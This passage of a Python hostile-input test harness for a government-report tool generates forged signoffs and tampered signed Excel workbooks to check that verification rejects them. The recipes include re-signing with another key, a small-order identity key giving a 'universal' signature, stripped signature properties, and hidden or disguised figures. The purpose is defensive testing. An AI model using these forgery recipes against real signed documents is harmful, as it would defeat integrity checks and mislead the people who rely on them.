    yield "换用伪造者自己的密钥重签", lambda path: _sql(path, *_other_key_signature(path))
    yield "改数字、重算指纹并降为旧版签发（修改记录照改）", _legacy_downgrade
    yield UNIVERSAL_SIGNATURE, _universal_signature
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
    for n in range(count):
        column = rng.choice(["signature", "public_key", "digests", "content_version"])

        def flip(path: Path, column: str = column, seed: int = rng.randrange(1 << 30)) -> None:
            local = random.Random(seed)
            text = str(_active_signoff(path)[column] or "")
            if text:
                i = local.randrange(len(text))
                text = text[:i] + local.choice(alphabet.replace(text[i], "")) + text[i + 1 :]
            _sql(path, (f"UPDATE signoff SET {column} = ? WHERE active = 1", (text or "x",)))

        yield f"随机改动签发行的 {column}（{n + 1}）", flip


@category("forged-signoffs", "伪造或改动的签发（草稿）")
def forged_signoffs(run: Run) -> Outcome:
    from govreport_gui.core.ops.signature import SignatureStatus, signature_status
    from govreport_gui.core.store.draft import Draft, DraftError

    outcome = Outcome()
    base = _signed_draft(run.folder / "signed.nianbao")
    out = run.folder / "out"
    out.mkdir()
    for n, (name, forge) in enumerate(forgeries(base, run.rng, run.size(10, 200))):
        path = run.folder / f"forged-{n}.nianbao"
        shutil.copyfile(base, path)
        found: list[str] = []
        try:
            forge(path)
        except Exception as exc:  # the forgery itself could not be made: the SQL was refused
            outcome.add([f"伪造 {name}: 无法构造（{type(exc).__name__}: {exc}）"])
            continue
        status: SignatureStatus | None = None  # None: refused on open (the commands say why)
        try:
            with Draft.open(path, "查看者", readonly=True) as draft:
                status = signature_status(draft).status
        except DraftError:
            pass
        except Exception as exc:
            found.append(f"伪造 {name}: 打开时异常逃出 {type(exc).__name__}: {exc}")
        if status is SignatureStatus.VALID_TRUSTED:
            found.append(f"伪造 {name}: 被当作“签名有效，签名人受信任”")
        if name == UNIVERSAL_SIGNATURE and status is SignatureStatus.VALID_UNTRUSTED:
            found.append(f"伪造 {name}: 被当作“签名有效”（弱密钥未被拒绝）")
        xlsx = out / f"{n}.xlsx"
        for label, argv in (
            ("show", ["show", str(path)]),
            ("check", ["check", str(path)]),
            ("export", ["export", str(path), "--xlsx", str(xlsx)]),
        ):
            found += _cli_judged(f"伪造 {name} / {label}", argv)
        if (
            status not in (SignatureStatus.VALID_UNTRUSTED, SignatureStatus.VALID_TRUSTED)
            and xlsx.exists()
        ):
            found.append(f"伪造 {name}: 签名无效却导出了正式文件")
        outcome.add(found)
    return outcome


# -- altered signed workbooks --------------------------------------------------------------------


def _workbook_change(change: Callable[[object], None]) -> Callable[[Path, Path], None]:
    def apply(source: Path, dest: Path) -> None:
        import openpyxl

        book = openpyxl.load_workbook(source)
        change(book)
        book.save(dest)

    return apply


def _figure_cells(sheet: object) -> list[object]:
    return [
        c
        for row in sheet.iter_rows()
        for c in row  # type: ignore[attr-defined]
        if isinstance(c.value, int) and not isinstance(c.value, bool)
    ]


def alterations(
    rng: random.Random, count: int
) -> Iterator[tuple[str, bool, Callable[[Path, Path], None]]]:
    """(name, whether a reader sees it, how to make it from the signed workbook)."""
    from openpyxl.styles import Font

    def first(book: object) -> object:
        return book.worksheets[0]  # type: ignore[attr-defined]

    def figure(book: object, k: int = 0) -> object:
        return _figure_cells(first(book))[k]

    def set_value(book: object) -> None:
        cell = figure(book)
        cell.value = cell.value + 1  # type: ignore[attr-defined]

    def extra_row(book: object) -> None:
        ws = first(book)
        ws.append(["（九）其他补充数", "件", 999])  # type: ignore[attr-defined]

    def hide_row(book: object) -> None:
        first(book).row_dimensions[figure(book).row].hidden = True  # type: ignore[attr-defined]

    def number_format(fmt: str) -> Callable[[object], None]:
        def apply(book: object) -> None:
            figure(book).number_format = fmt  # type: ignore[attr-defined]

        return apply

    def font(**kw: object) -> Callable[[object], None]:
        def apply(book: object) -> None:
            figure(book).font = Font(**kw)  # type: ignore[attr-defined,arg-type]

        return apply

    def signoff_line(change: Callable[[str], str | None]) -> Callable[[object], None]:
        def apply(book: object) -> None:
            for ws in book.worksheets:  # type: ignore[attr-defined]
                for row in ws.iter_rows():
                    for c in row:
                        if isinstance(c.value, str) and c.value.startswith("签发"):
                            c.value = change(c.value)

        return apply

    def prop(name: str, value: str) -> Callable[[object], None]:
        def apply(book: object) -> None:
            from openpyxl.packaging.custom import StringProperty

            props = book.custom_doc_props  # type: ignore[attr-defined]
            kept = [p for p in props.props if p.name != name]
            props.props = [*kept, StringProperty(name=name, value=value)]

        return apply

    def strip_signature(book: object) -> None:
        """Delete the four signature properties, to pass as an export from before signatures."""
        drop = {f"govreport.{n}" for n in ("signature", "public_key", "content_version", "digests")}
        props = book.custom_doc_props  # type: ignore[attr-defined]
        props.props = [p for p in props.props if p.name not in drop]

    def universal(book: object) -> None:
        """The small-order key (the identity) and the signature it accepts for any message."""
        import base64

        identity = (1).to_bytes(32, "little")
        for name, value in (
            ("govreport.public_key", identity),
            ("govreport.signature", identity + bytes(32)),
        ):
            prop(name, base64.b64encode(value).decode())(book)

    def extra_sheet(state: str) -> Callable[[object], None]:
        def apply(book: object) -> None:
            ws = book.create_sheet("补充")  # type: ignore[attr-defined]
            ws["A1"] = "其他补充数 999"
            ws.sheet_state = state

        return apply

    def merge(book: object) -> None:
        cell = figure(book)
        first(book).merge_cells(  # type: ignore[attr-defined]
            start_row=cell.row,
            start_column=1,
            end_row=cell.row,
            end_column=2,  # type: ignore[attr-defined]
        )

    def footer(book: object) -> None:
        first(book).oddFooter.center.text = "已改动"  # type: ignore[attr-defined]

    def reorder(book: object) -> None:
        sheets = book._sheets  # type: ignore[attr-defined]
        sheets.reverse()

    def nothing(book: object) -> None:
        pass

    def as_float(book: object) -> None:
        cell = figure(book)
        cell.value = float(cell.value)  # type: ignore[attr-defined]

    seen = True
    yield "改一个数字", seen, _workbook_change(set_value)
    yield "多出一行（九）其他补充数", seen, _workbook_change(extra_row)
    yield "多出一张表", seen, _workbook_change(extra_sheet("visible"))
    yield "多出一张隐藏表", seen, _workbook_change(extra_sheet("hidden"))
    yield "隐藏一行", seen, _workbook_change(hide_row)
    yield "数字格式显示另一个数", seen, _workbook_change(number_format('"4"'))
    yield "数字格式 ;;; 什么也不显示", seen, _workbook_change(number_format(";;;"))
    yield "白色字", seen, _workbook_change(font(color="FFFFFFFF"))
    yield "字号 1", seen, _workbook_change(font(size=1))
    yield "删除线", seen, _workbook_change(font(strike=True))
    yield (
        "签发行改签发人",
        seen,
        _workbook_change(signoff_line(lambda t: t.replace("沈涛", "局长"))),
    )
    yield "删除签发行", seen, _workbook_change(signoff_line(lambda t: None))
    yield "合并单元格", seen, _workbook_change(merge)
    yield "改页脚", seen, _workbook_change(footer)
    yield "改文档属性中的签名", seen, _workbook_change(prop("govreport.signature", "A" * 86 + "=="))
    yield "改文档属性中的摘要", seen, _workbook_change(prop("govreport.digests", '{"tables": "0"}'))
    yield "删去四个签名属性（冒充旧版签发）", seen, _workbook_change(strip_signature)
    yield "公钥换成单位元、万能签名", seen, _workbook_change(universal)
    yield "原样另存（openpyxl）", not seen, _workbook_change(nothing)
    yield "数字存为 3.0", not seen, _workbook_change(as_float)
    yield "表的次序调换", not seen, _workbook_change(reorder)
    for n in range(count):
        k = rng.randrange(200)
        delta = rng.choice([1, -1, 10, 100, 1000])

        def change(book: object, k: int = k, delta: int = delta) -> None:
            cells = _figure_cells(first(book))
            cell = cells[k % len(cells)]
            cell.value = cell.value + delta  # type: ignore[attr-defined]

        yield f"随机改一个数字（{n + 1}）", seen, _workbook_change(change)


@category("altered-workbooks", "改动过的已签发工作簿（verify）")
def altered_workbooks(run: Run) -> Outcome:
    outcome = Outcome()
    draft = _signed_draft(run.folder / "signed.nianbao")
    signed = run.folder / "signed.xlsx"
    code, text = hi.run_cli(["export", str(draft), "--xlsx", str(signed)])
    if code != 0:
        return Outcome(0, [f"无法导出已签发的工作簿：{text}"])
    for n, (name, seen, alter) in enumerate(alterations(run.rng, run.size(10, 200))):
        path = run.folder / f"altered-{n}.xlsx"
        alter(signed, path)
        what = f"工作簿 {name} / verify"
        code, text = _cli(what, ["verify", str(path)])
        found: list[str] = []
        if code is None:
            found.append(f"{what}: {hi.HANG_SECONDS:.0f} 秒内没有结束（挂起）")
        elif "Traceback" in text or "内部错误" in text or "异常逃出" in text:
            found.append(f"{what}: {text.strip()[-300:]}")
        elif seen and code == 0:
            found.append(f"{what}: 读者看得见的改动却说一致")
        elif not seen and code != 0:
            found.append(f"{what}: 读者看不见的改动却说不一致：{text.strip()[:200]}")
        outcome.add(found)
    return outcome


# -- running -------------------------------------------------------------------------------------


def peak_mb() -> float:
    """The process's peak resident memory so far (MB); 0 where the platform does not say."""
    try:
        import resource
    except ImportError:  # Windows
        return 0.0
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="fewer inputs (well under a minute)")
    parser.add_argument("--seed", type=int, default=13)
    parser.add_argument("--only", nargs="+", choices=list(CATEGORIES), help="these categories only")
    parser.add_argument("--list", action="store_true", help="list the categories and stop")
    args = parser.parse_args(argv)
    if args.list:
        for cat in CATEGORIES.values():
            print(f"{cat.name:14} {cat.title}")
        return 0
    names = args.only or list(CATEGORIES)
    total_failures = 0
    with tempfile.TemporaryDirectory(prefix="govreport-hostile-") as tmp:
        # The user's own settings, drafts and logs are never touched.
        os.environ["GOVREPORT_HOME"] = str(Path(tmp) / "home")
        print(f"{'category':14} {'tried':>8} {'failures':>9} {'seconds':>8} {'peak MB':>8}  什么")
        reports: list[tuple[str, list[str]]] = []
        for name in names:
            cat = CATEGORIES[name]
            folder = Path(tmp) / name
            folder.mkdir()
            start = time.perf_counter()
            try:
                outcome = cat.run(Run(folder, random.Random(f"{args.seed}:{name}"), args.quick))
            except (
                Exception
            ) as exc:  # a broken generator is a failure to see, not the end of the run
                outcome = Outcome(0, [f"类别 {name} 本身出错：{type(exc).__name__}: {exc}"])
            seconds = time.perf_counter() - start
            total_failures += len(outcome.failures)
            reports.append((name, outcome.failures))
            print(
                f"{name:14} {outcome.tried:8d} {len(outcome.failures):9d} {seconds:8.1f} "
                f"{peak_mb():8.0f}  {cat.title}",
                flush=True,
            )
        for name, failures in reports:
            for failure in failures[:20]:
                print(f"  [{name}] {failure}")
            if len(failures) > 20:
                print(f"  [{name}] … 另有 {len(failures) - 20} 个")
    stuck = [
        t for t in threading.enumerate() if t is not threading.current_thread() and t.is_alive()
    ]
    if stuck:
        print(f"{len(stuck)} 个命令仍未结束（挂起）")
    print(f"failures: {total_failures}")
    return 1 if total_failures else 0


if __name__ == "__main__":
    code = main()
    sys.stdout.flush()
    # A hung command (already counted) must not keep the process alive.
    os._exit(code)
